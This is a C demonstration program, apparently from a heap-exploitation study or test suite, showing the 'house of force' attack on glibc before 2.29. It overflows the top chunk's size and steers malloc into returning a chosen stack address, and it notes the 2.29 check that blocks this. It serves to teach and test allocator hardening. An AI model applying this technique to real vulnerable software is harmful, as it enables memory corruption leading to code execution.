/* Technique: house of force (how2heap house_of_force, glibc < 2.29;
   stopped in 2.29 by the "corrupted top size" check).

   Goal: malloc returns a chosen address (a stack buffer).

   How: an overflow from the chunk below the top chunk sets the top
   size to ~0.  A request of exactly (target - 0x10) - top - 0x10 bytes
   (minus the header) is then carved from the huge "top", moving the
   top chunk to just below the target, and the next malloc returns the
   target.  glibc 2.29+ aborts when the top size exceeds system_mem.  */
#include "attack.h"

int
main (void)
{
  attack_init ("house_of_force: top size set to ~0, malloc wraps the top onto a chosen address");
  _Alignas (16) size_t target[8] = { 0 };
  size_t *p = malloc (0x18);		/* chunk 0x20, directly below top */
  char *top = (char *) CHUNK (p) + 0x20;
  say ("p %p top chunk %p target %p", p, top, target);
  if ((char *) target < top + 0x100)
    no_effect ("the stack is below the heap here; nothing to aim at");
  p[3] = (size_t) -1;			/* the overflow: top's size */
  size_t evil = (size_t) ((char *) target - 0x10 - top) - 0x10;
  void *q = malloc (evil);
  void *r = malloc (0x18);
  say ("malloc (%#zx) = %p; malloc (0x18) = %p", evil, q, r);
  if (r == (void *) target)
    reached ("malloc returned the stack target %p", r);
  no_effect ("malloc returned %p, not the target %p", r, target);
}
